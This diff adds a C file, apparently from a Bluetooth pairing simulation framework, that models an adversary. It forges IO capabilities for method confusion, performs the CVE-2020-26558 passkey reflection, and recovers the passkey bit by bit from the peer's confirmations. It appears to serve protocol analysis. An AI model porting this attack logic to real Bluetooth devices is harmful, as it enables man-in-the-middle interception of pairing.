@@ -1,0 +1,82 @@
+/* SPDX-License-Identifier: GPL-2.0-only */
+/* attacker.c - what an adversary's own parties do that the honest ones do not. Its responder stands
+ * before the honest initiator, its initiator before the honest responder, and what the first finds
+ * out about a number it tells the second. Which way is tried depends on how often the honest end
+ * has refused: first Just Works (no input, no output), then the rest by turns. */
+#include <string.h>
+
+#include "pairing.h"
+#include "protocols/crypto/crypto.h"
+
+/* The initiator: asks to show a number (method confusion), then as the end that it plays. The
+ * responder: whatever makes the initiator show or type a number. */
+uint8_t bt_attack_io(const struct bt_party *p)
+{
+    uint8_t own = (uint8_t)imp_opt(p->env, BT_OPT_IO);
+    if (p->attempts == 0)
+        return SMP_NO_INPUT_NO_OUTPUT;
+    if (bt_initiates(p))
+        return p->attempts == 1 ? SMP_DISPLAY_ONLY : own;
+    switch (p->peer.io) {
+    case SMP_KEYBOARD_ONLY:
+        return SMP_DISPLAY_ONLY;
+    case SMP_DISPLAY_ONLY:
+        return SMP_KEYBOARD_ONLY;
+    default:
+        return SMP_DISPLAY_YES_NO;
+    }
+}
+
+/* CVE-2020-26558: with the same x-coordinate at both ends the initiator's own confirmations and
+ * random values fit. Who refuses that gets confirmations under a passkey of zeros next time. */
+void bt_attack_passkey(struct bt_party *p)
+{
+    p->attack.reflects = p->secure && p->attempts % 2 == 1;
+    p->attack.bits = 0;
+    if (p->attack.reflects) {
+        memcpy(p->own_public, p->peer_public, sizeof p->own_public);
+        p->keys_made = false;
+    }
+    bt_take_passkey(p, 0);
+}
+
+/* The peer's confirmation and random value tell the bit of this round. */
+void bt_attack_learn(struct bt_party *p)
+{
+    uint8_t c[16];
+    bt_f4(p->env, c, p->peer_public, p->own_public, p->peer_random, 0x81);
+    uint32_t bit = imp_equal(c, p->peer_confirm, sizeof c), low = (UINT32_C(1) << p->round) - 1;
+    bt_take_passkey(p, (p->passkey & low) | bit << p->round);
+    p->attack.bits = p->round + 1;
+    if (!bt_initiates(p))
+        bt_attack_tell(p);
+}
+
+/* After two attempts it no longer waits for its other half but learns from the responder. */
+bool bt_attack_waits(struct bt_party *p)
+{
+    bool waits = p->attempts < 3 && p->attack.bits <= p->round;
+    p->attack.waits = waits;
+    return waits;
+}
+
+/* Six digits, then how many low bits of the number are known. */
+void bt_attack_tell(struct bt_party *p)
+{
+    uint8_t out[BT_DIGITS + 1];
+    bt_digits(p->passkey, (char *)out);
+    out[BT_DIGITS] = (uint8_t)p->attack.bits;
+    imp_send(p->env, BT_PASSKEY_OF_RESPONDER, &imp_to_all, BT_MSG_PASSKEY_OF_RESPONDER, out,
+             sizeof out);
+}
+
+void bt_attack_told(struct bt_party *p, const uint8_t *bytes, size_t n)
+{
+    int64_t v = n == BT_DIGITS + 1 ? bt_number(bytes, BT_DIGITS) : -1;
+    if (v < 0 || bytes[BT_DIGITS] > BT_ROUNDS)
+        return;
+    p->attack.bits = bytes[BT_DIGITS];
+    bt_take_passkey(p, (uint32_t)v);
+    if (p->state == BT_CONFIRM && p->attack.waits && !bt_attack_waits(p))
+        bt_send_confirm(p);
+}
